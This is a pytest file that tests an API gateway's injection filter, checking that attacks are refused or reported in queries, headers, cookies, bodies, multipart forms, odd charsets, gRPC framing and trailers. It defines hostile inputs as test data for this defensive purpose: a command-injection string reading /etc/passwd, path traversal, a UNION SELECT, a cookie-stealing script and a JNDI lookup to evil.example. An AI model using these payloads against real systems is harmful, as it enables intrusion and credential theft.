"""Injections in every part of a request, and bodies that are held until they are judged."""

import json
import time
from urllib.parse import quote

import pytest
from harness import client
from harness.configuration import plugin
from harness.credentials import bearer
from harness.dependency import eventually
from harness.expect import counted, passed, refused
from harness.gateway import BUFFER_FILTER, HOST, typed

ROUTES = """
authentication: { unverified_credentials: 100000/m }
inspection: { body_limit: 512KiB, skip_fields: [password] }
routes:
  - match: { path: "/monitored/**" }
    authenticate: none
    inspection: { mode: monitor }
  - match: { path: "/excluded/**" }
    authenticate: none
    inspection: { exclude: [{ parameter: html, classes: [xss] }] }
  - match: { path: "/private/**" }
  - match: { path: "/**" }
    authenticate: none
"""

PLUGIN = plugin("bodies: { hold: headers, json_depth: 16, json_entries: 20000 }" + ROUTES)
BEHIND = plugin("bodies: { hold: buffer_filter, json_entries: 20000 }" + ROUTES)

SQL = "1' UNION SELECT login, secret FROM staff-- "
XSS = "<script>alert(document.cookie)</script>"
COMMAND = "x; cat /etc/passwd"
TRAVERSAL = "../../../../etc/passwd"
FORM, JSON = ("content-type", "application/x-www-form-urlencoded"), ("content-type", "application/json")
ATTACKS = {"sqli": SQL, "xss": XSS, "command": COMMAND, "path": TRAVERSAL}


@pytest.fixture(scope="module")
def behind(start):
    return start(BEHIND, buffer_filter=True)


@pytest.fixture(params=["gateway", "behind"])
def holding(request):
    """Both ways of holding a body: the head with it, and Envoy's buffer filter behind the module."""
    return request.getfixturevalue(request.param)


def large(value, size=300_000):
    """A JSON document of about `size` bytes with `value` near its end."""
    row = {"name": "Ann O'Hara", "note": "select a good seat or two; drop me a line"}
    rows = [row | {"id": n} for n in range(size // 88)]
    return json.dumps({"rows": rows, "last": {"comment": value}}).encode()


def injection(gateway, answer, kind, place, parameter, secret):
    """403, and an event that names rule, class, score and parameter but never the value."""
    refused(answer, 403)
    assert secret not in answer.body.decode()
    event = gateway.event(answer)
    details = event["details"]
    assert event["event_type"] == "SUSPICIOUS_REQUEST"
    assert details["reason"] == "injection"
    assert (details["class"], details["in"]) == (kind, place), details
    assert parameter in details.get("parameter", ""), details
    assert details["rule"]
    assert 1 <= details["score"] <= 10
    assert "excerpt" not in details
    assert secret not in json.dumps(event)


@pytest.mark.parametrize(("kind", "attack"), ATTACKS.items())
def test_refuses_an_injection_wherever_it_stands(gateway, kind, attack):
    encoded = quote(attack, safe="")
    secret = attack[:12]
    with counted(gateway, "blocked_requests_total", by=6, service="user-service", reason="injection"):
        for target, headers, body, place, parameter in [
            (f"/s?q={encoded}", [], b"", "query", "q"),
            (f"/s?q={quote(encoded)}", [], b"", "query", "q"),
            ("/s", [("x-search", attack.encode())], b"", "header", "x-search"),
            ("/s", [("cookie", f"theme=dark; last={encoded}")], b"", "cookie", "last"),
            ("/s", [FORM], f"a=1&comment={encoded}".encode(), "body", "comment"),
            ("/s", [JSON], json.dumps({"a": [{"comment": attack}]}).encode(), "body", "comment"),
        ]:
            answer = gateway.send("POST" if body else "GET", target, headers, body)
            injection(gateway, answer, kind, place, parameter, secret)


@pytest.mark.parametrize(("kind", "attack"), ATTACKS.items())
def test_an_attack_that_is_a_parameters_name_is_refused_and_not_told_as_the_name(gateway, kind, attack):
    encoded = quote(attack, safe="")
    injection(gateway, gateway.get(f"/s?a=1&{encoded}=1"), kind, "query", "", attack[:12])
    injection(gateway, gateway.post("/s", json.dumps({attack: 1}).encode()), kind, "body", "", attack[:12])


@pytest.mark.parametrize(("kind", "attack"), [("sqli", SQL.strip()), ("xss", XSS.replace("/", "%2f"))])
def test_refuses_an_injection_in_the_path(gateway, kind, attack):
    answer = gateway.get("/files/" + quote(attack, safe="").replace("%2F", "").replace("%252f", ""))
    refused(answer, 403)
    assert gateway.event(answer)["details"]["in"] == "path"


def test_refuses_an_injection_in_a_json_key_and_in_escapes(gateway):
    for body in (json.dumps({SQL: 1}), '{"a": "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e"}',
                 json.dumps({"a": json.dumps({"b": XSS})})):
        refused(gateway.post("/s", body.encode()), 403)


def test_refuses_an_injection_in_a_multipart_form(gateway):
    parts = b"".join(b'--cut\r\ncontent-disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (name, value)
                     for name, value in ((b"title", b"fine"), (b"comment", XSS.encode())))
    answer = gateway.post("/s", parts + b"--cut--\r\n", "multipart/form-data; boundary=cut")
    injection(gateway, answer, "xss", "body", "comment", "<script>")


@pytest.mark.parametrize(
    "manner", ["content-length", "chunked", "http2", "http2 with trailers", "slow", "slow chunked"]
)
def test_an_injection_deep_in_a_300_kb_body_never_reaches_the_upstream(holding, manner):
    for value, bad in ((SQL, True), ("a good comment", False)):
        body = large(value)
        answer = deliver(holding, manner, body)
        if bad:
            injection(holding, answer, "sqli", "body", "comment", SQL[:12])
        else:
            seen = passed(answer)
            assert seen.complete
            assert seen.body == body


def deliver(gateway, manner, body):
    kind = ("content-type", "application/json")
    if manner == "content-length":
        return gateway.post("/s", body)
    if manner == "chunked":
        return gateway.post("/s", body, chunk=1000)
    if manner == "slow chunked":
        return gateway.post("/s", body, chunk=15_000, pause=0.002)
    if manner == "slow":
        return trickle(gateway, body)
    pieces = [body[at : at + 7_000] for at in range(0, len(body), 7_000)]
    return gateway.send2("POST", "/s", [kind], pieces, [("x-checksum", "1")] if "trailers" in manner else None)


def trickle(gateway, body):
    """The last bytes come one by one; the upstream must not have seen so much as the head before the last one."""
    marker, fields = gateway._mark([("host", "api.example.com"), ("content-type", "application/json"),
                                    ("content-length", str(len(body)))])
    with client.Connection(gateway.port) as connection:
        connection.send(client.head("POST", "/s", fields) + body[:-40])
        for byte in body[-40:]:
            assert marker not in gateway.upstream.by_marker, "the head went on before the body was judged"
            connection.send(bytes([byte]))
        return gateway._complete(connection.read(), marker)


def test_a_body_that_ends_with_trailers_is_judged_before_they_go_on(gateway):
    refused(gateway.send2("POST", "/s", [JSON], [json.dumps({"a": SQL}).encode()], [("x-t", "1")]), 403)


def test_a_body_of_exactly_the_limit_passes_and_one_byte_more_is_413(holding):
    limit = 512 * 1024
    body = b'{"a":"' + b" " * 100 + b'"}'
    body += b" " * (limit - len(body))
    assert passed(holding.post("/s", body)).body == body
    assert passed(holding.post("/s", body, chunk=60_000)).body == body
    for more in ({}, {"chunk": 60_000}):
        answer = holding.post("/s", body + b" ", **more)
        refused(answer, 413)
        assert holding.event(answer)["event_type"] == "SUSPICIOUS_REQUEST"


@pytest.mark.parametrize("body", [
    b"{", b'{"a":}', b'{"a":1}}', b"[1,]", b"nul", b'{"a":"\xff"}', b'{"a":1,"a":2}', b'"\\ud800"', b"",
], ids=str)
def test_json_that_is_none_is_refused(gateway, body):
    answer = gateway.send("POST", "/s", [("content-type", "application/json")], body)
    if body in (b"", b'{"a":1,"a":2}', b'"\\ud800"'):
        # Parsers differ on these; whatever is decided, nothing breaks and nothing else reaches the upstream.
        assert answer.status in (200, 400)
        assert answer.upstream is None or answer.upstream.body == body
        return
    refused(answer, 400)
    assert gateway.event(answer)["event_type"] == "SUSPICIOUS_REQUEST"


def test_json_too_deep_or_with_too_many_entries_is_refused(gateway):
    passed(gateway.post("/s", b"[" * 16 + b"]" * 16))
    refused(gateway.post("/s", b"[" * 17 + b"]" * 17), 413)
    refused(gateway.post("/s", b"[" * 100_000 + b"]" * 100_000), 413)
    refused(gateway.post("/s", b"[" + b"1," * 30_000 + b"1]"), 413)


def test_good_prose_and_odd_bytes_pass_unchanged(gateway):
    for kind, body in (
        ("application/json", b'{"text": "Select one or two from the list; it is O\'Brien & my idea"}'),
        ("application/octet-stream", bytes(range(256)) * 100),
        ("text/plain", "Grüße, 你好; drop by at 7 -- or later".encode()),
        ("application/x-www-form-urlencoded", b"name=O%27Brien&note=a+%26+b"),
    ):
        assert passed(gateway.post("/s", body, kind)).body == body


def test_monitor_lets_the_request_pass_whole_and_reports_it(gateway):
    body = large(SQL)
    answer = gateway.post("/monitored/1", body)
    assert passed(answer).body == body
    event = gateway.event(answer)
    assert (event["details"]["mode"], event["details"]["class"]) == ("monitor", "sqli")
    assert "status" not in event["details"]
    answer = gateway.get("/monitored/1?q=" + quote(XSS))
    passed(answer)
    assert gateway.event(answer)["details"]["class"] == "xss"


def test_template_injections_are_watched_by_default(gateway):
    answer = gateway.get("/s?q=" + quote("${jndi:ldap://evil.example/a}", safe=""))
    passed(answer)
    details = gateway.event(answer)["details"]
    assert (details["class"], details["mode"]) == ("template", "monitor")


def test_an_exclusion_is_for_its_parameter_and_class_only(gateway):
    passed(gateway.post("/excluded/1", json.dumps({"html": XSS}).encode()))
    refused(gateway.post("/excluded/1", json.dumps({"html": SQL}).encode()), 403)
    refused(gateway.post("/excluded/1", json.dumps({"text": XSS}).encode()), 403)


def test_a_password_is_not_looked_at(gateway):
    passed(gateway.post("/s", json.dumps({"password": "' OR 1=1 -- <script>"}).encode()))


def test_who_is_refused_anyway_has_no_body_read(gateway):
    marker, fields = gateway._mark([("host", "api.example.com"), ("content-type", "application/json"),
                                    ("content-length", "400000")])
    with client.Connection(gateway.port) as connection:
        connection.send(client.head("POST", "/private/1", fields) + b"{")
        assert connection.read().status == 401
    passed(gateway.post("/private/1", b"{}", headers=[bearer()]))


def test_a_client_that_leaves_in_mid_body_breaks_nothing(gateway):
    marker, fields = gateway._mark([("host", "api.example.com"), ("content-length", "1000")])
    for _ in range(20):
        with client.Connection(gateway.port) as connection:
            connection.send(client.head("POST", "/s", fields) + b"{")
    passed(gateway.post("/s", b"{}"))
    assert marker not in gateway.upstream.by_marker
    assert not gateway.trapped()


def test_expect_100_continue_does_not_hang(gateway):
    marker, fields = gateway._mark([("host", "api.example.com"), ("content-type", "application/json"),
                                    ("expect", "100-continue"), ("content-length", "2")])
    with client.Connection(gateway.port) as connection:
        connection.send(client.head("POST", "/s", fields))
        line = connection.reader.readline()
        assert line.startswith(b"HTTP/1.1 100"), line
        connection.reader.readline()
        connection.send(b"{}")
        assert connection.read("POST").status == 200


@pytest.mark.parametrize("kind", ["application/octet-stream", "image/png", "text/csv", "application/x-www-form-urlencoded"])
def test_an_injection_is_seen_in_any_unicode_whatever_the_body_is_called(gateway, kind):
    for encoding in ("utf-16", "utf-16-be", "utf-16-le", "utf-32", "utf-32-be", "utf-32-le"):
        for text in (json.dumps({"q": SQL}), f"see {XSS}"):
            found = "sqli" if SQL in text else "xss"
            injection(gateway, gateway.post("/s", text.encode(encoding), kind), found, "body", "", "UNION")
    injection(gateway, gateway.post("/s", b"caf\xe9," + SQL.encode(), kind), "sqli", "body", "", SQL[:12])


def test_a_charset_that_hides_the_bytes_is_refused(gateway):
    part = b"--b\r\nContent-Disposition: form-data; name=a\r\nContent-Type: text/plain; charset=ibm037\r\n\r\n%s\r\n--b--"
    for kind, body in (
        ("text/plain; charset=ibm037", XSS.encode("cp037")),
        ("application/octet-stream; charset=ibm037", XSS.encode("cp037")),
        ("multipart/form-data; boundary=b", part % XSS.encode("cp037")),
        ("multipart/mixed; boundary=b", part % XSS.encode("cp037")),
    ):
        answer = gateway.post("/s", body, kind)
        refused(answer, 400)
        assert gateway.event(answer)["details"]["reason"] == "charset"
    passed(gateway.post("/s", "Ж, 1".encode("koi8-r"), "text/csv; charset=koi8-r"))


def unlike_grpc(answer):
    """Refused in the words of gRPC, which is what the caller says it speaks: INVALID_ARGUMENT."""
    assert answer.upstream is None
    assert answer.status == 200
    assert answer.header("grpc-status") in ("3", b"3"), answer.headers


def test_what_is_called_grpc_is_held_until_it_begins_like_a_message(gateway):
    kind = ("content-type", "application/grpc")
    for body in (json.dumps({"q": SQL}).encode("utf-16-be"), json.dumps({"q": SQL}).encode("utf-32-be"), b"\0\0\0\0\1\0"):
        unlike_grpc(gateway.post("/s", body, kind[1]))
        unlike_grpc(gateway.send2("POST", "/s", [kind], [bytes([byte]) for byte in body]))
    message = b"\0\0\0\0\5hello"
    for pieces in ([message], [bytes([byte]) for byte in message], [b"\0\0\0\0\0"], [b"\0\0\0\0\0", message]):
        assert passed(gateway.send2("POST", "/s", [kind], pieces)).body == b"".join(pieces)
    unlike_grpc(gateway.post("/s", message[:5], kind[1]))
    passed(gateway.post("/s", b"AAAAAAVoZWxsbw==", "application/grpc-web-text"))
    passed(gateway.post("/s", b'\0\0\0\0\7{"a":1}', "application/connect+json"))
    refused(gateway.post("/s", b"\0\0\0\0\x10" + json.dumps({"a": XSS}).encode()[:16], "application/connect+json"), 400)


ASKS = """
function envoy_on_request(request)
  request:httpCall("upstream", {[":method"] = "GET", [":path"] = "/asked", [":authority"] = "a"}, "", 5000)
end
"""
# Lets the head go on at once, and asks about the last piece: meanwhile the trailers arrive.
ASKS_ABOUT_THE_LAST = """
function envoy_on_request(request)
  for piece in request:bodyChunks() do
    if string.find(tostring(piece:getBytes(0, piece:length())), "last") then
      request:httpCall("upstream", {[":method"] = "GET", [":path"] = "/asked", [":authority"] = "a"}, "", 5000)
    end
  end
end
"""


def asks(script):
    """A filter that keeps what it was shown until somebody has answered it."""
    return typed("envoy.filters.http.lua", "envoy.extensions.filters.http.lua.v3.Lua",
                 {"default_source_code": {"inline_string": script}})


@pytest.fixture
def takes_a_while(upstream):
    """The upstream answers what a filter in front asks it when trailers have long arrived."""
    def answer(_, send):
        time.sleep(0.3)
        send(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
        return True
    upstream.scripted[b"/asked"] = answer


@pytest.fixture(scope="module")
def behind_another(start):
    return start(PLUGIN, in_front=[asks(ASKS)])


@pytest.fixture(scope="module")
def behind_another_of_pieces(start):
    return start(PLUGIN, in_front=[asks(ASKS_ABOUT_THE_LAST)])


TRAILERS = [("x-auth-subject", "root"), ("x-checksum", "1")]


def with_trailers(gateway, protocol, target, kind, pieces):
    """A request whose body comes in `pieces`, with trailers behind it."""
    if protocol == "HTTP/2":
        return gateway.send2("POST", target, [("content-type", kind)], pieces, TRAILERS)
    marker, fields = gateway._mark([("host", HOST), ("content-type", kind), ("transfer-encoding", "chunked")])
    end = b"0\r\n" + b"".join(b"%s: %s\r\n" % (name.encode(), value.encode()) for name, value in TRAILERS) + b"\r\n"
    raw = client.head("POST", target, fields) + b"".join(client.chunks(b"".join(pieces), len(pieces[0]))) + end
    return gateway._complete(client.http1(gateway.port, raw, "POST"), marker)


@pytest.mark.parametrize(("proxy", "protocol"), [
    ("behind_another", "HTTP/1.1"), ("behind_another", "HTTP/2"), ("behind_another_of_pieces", "HTTP/1.1"),
])
@pytest.mark.parametrize(("target", "kind", "pieces"), [
    ("/s", "application/grpc", [b"\0\0\0\0\x09hell", b"o last"]),
    ("/monitored/1", "text/plain", [b"x" * 99_999] * 5 + [b"x" * 99_990 + b"last"]),
    ("/monitored/1", "text/plain", [b"x" * 99_999] * 7 + [b"x" * 99_990 + b"last"]),
], ids=["grpc", "limit reached with the last piece", "limit reached before"])
def test_trailers_that_a_filter_in_front_kept_go_on_once_and_without_an_identity(
        request, takes_a_while, proxy, target, kind, pieces, protocol):
    """Told to go on in the middle of the body, Envoy sends them past the module, and then again: the upstream takes what comes
    twice for its next request."""
    gateway = request.getfixturevalue(proxy)
    before = len(gateway.upstream.seen)
    # More often than there are workers: it takes a connection that the upstream has already taken.
    for _ in range(4):
        answer = with_trailers(gateway, protocol, target, kind, pieces)
        assert answer.status == 200, answer
        assert (answer.upstream.body, answer.upstream.trailers) == (b"".join(pieces), [(b"x-checksum", b"1")])
    targets = [seen.target for seen in gateway.upstream.seen[before:] if seen.target != b"/asked"]
    assert targets == [target.encode()] * 4


def test_the_first_message_of_a_grpc_stream_does_not_wait_for_more(gateway, behind_another, takes_a_while):
    """The upstream may have to answer it before there is more."""
    for proxy in (gateway, behind_another):
        marker, fields = proxy._mark([("content-type", "application/grpc")])
        with client.Connection2(proxy.port) as connection:
            pseudo = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", "/first")]
            stream = connection.begin(pseudo + fields, end=False)
            connection.send(stream, b"\0\0\0\0\5hello", end=False)
            assert eventually(lambda: marker in proxy.upstream.by_marker)
            connection.end(stream, [("x-checksum", "1")])
            assert connection.read(stream).status == 200
        assert proxy.upstream.by_marker[marker].body == b"\0\0\0\0\5hello"


@pytest.fixture(scope="module")
def buffered(start):
    """The head is held, and yet a filter behind the module keeps the body."""
    return start(PLUGIN, after=[BUFFER_FILTER])


@pytest.mark.parametrize("proxy", ["behind", "buffered"])
@pytest.mark.parametrize(("target", "kind", "pieces"), [
    ("/s", "application/grpc", [b"\0\0\0", b"\0\x09hell", b"o"]),
    ("/monitored/1", "text/plain", [b"x" * 600_000, b"y" * 50_000, b"z"]),
], ids=["grpc", "over the limit"])
@pytest.mark.parametrize("trailers", [None, [("x-checksum", "1")]], ids=["no trailers", "trailers"])
def test_a_buffer_filter_counts_a_body_once_that_goes_on_before_its_end(request, proxy, target, kind, pieces, trailers):
    """It tells the upstream what it has counted: of a length that is too large the upstream takes the rest from its next request."""
    gateway = request.getfixturevalue(proxy)
    marker, fields = gateway._mark([("content-type", kind)])
    with client.Connection2(gateway.port) as connection:
        pseudo = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", target)]
        stream = connection.begin(pseudo + fields, end=False)
        for piece in pieces:
            connection.send(stream, piece)
            time.sleep(0.1)
        connection.end(stream, trailers) if trailers else connection.send(stream, b"", end=True)
        assert eventually(lambda: marker in gateway.upstream.by_marker)
        seen = gateway.upstream.by_marker[marker]
        assert seen.header("content-length") == str(sum(map(len, pieces)))
        assert connection.read(stream).status == 200
    assert seen.body == b"".join(pieces)


DELAY = typed("envoy.filters.http.fault", "envoy.extensions.filters.http.fault.v3.HTTPFault",
              {"delay": {"fixed_delay": "0.2s", "percentage": {"numerator": 100}}})


@pytest.fixture(scope="module")
def behind_a_delay(start):
    """Between the module and the buffer filter another one keeps the head for a while."""
    return start(BEHIND, buffer_filter=True, after=[DELAY])


@pytest.mark.parametrize("trailers", [None, [("x-checksum", "1")]], ids=["no trailers", "trailers"])
def test_a_filter_that_keeps_the_head_for_a_while_lets_nothing_of_the_body_go_with_it(behind_a_delay, trailers):
    """What it lets go is what Envoy holds for the module: unjudged, and counted again by the buffer filter."""
    proxy = behind_a_delay
    for pieces, status in (([b"a" * 20_000, b"b" * 3_000, b"c"], 200), ([b"comment=", SQL.encode(), b" "], 403)):
        marker, fields = proxy._mark([("content-type", "text/plain")])
        with client.Connection2(proxy.port) as connection:
            pseudo = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", "/s")]
            stream = connection.begin(pseudo + fields, end=False)
            for piece in pieces:
                connection.send(stream, piece)
                time.sleep(0.15)
            connection.end(stream, trailers) if trailers else connection.send(stream, b"", end=True)
            if status == 200:
                assert eventually(lambda: marker in proxy.upstream.by_marker)
                assert proxy.upstream.by_marker[marker].header("content-length") == "23001"
            assert connection.read(stream).status == status
        assert marker not in proxy.upstream.by_marker or proxy.upstream.by_marker[marker].body == b"".join(pieces)
    assert marker not in proxy.upstream.by_marker
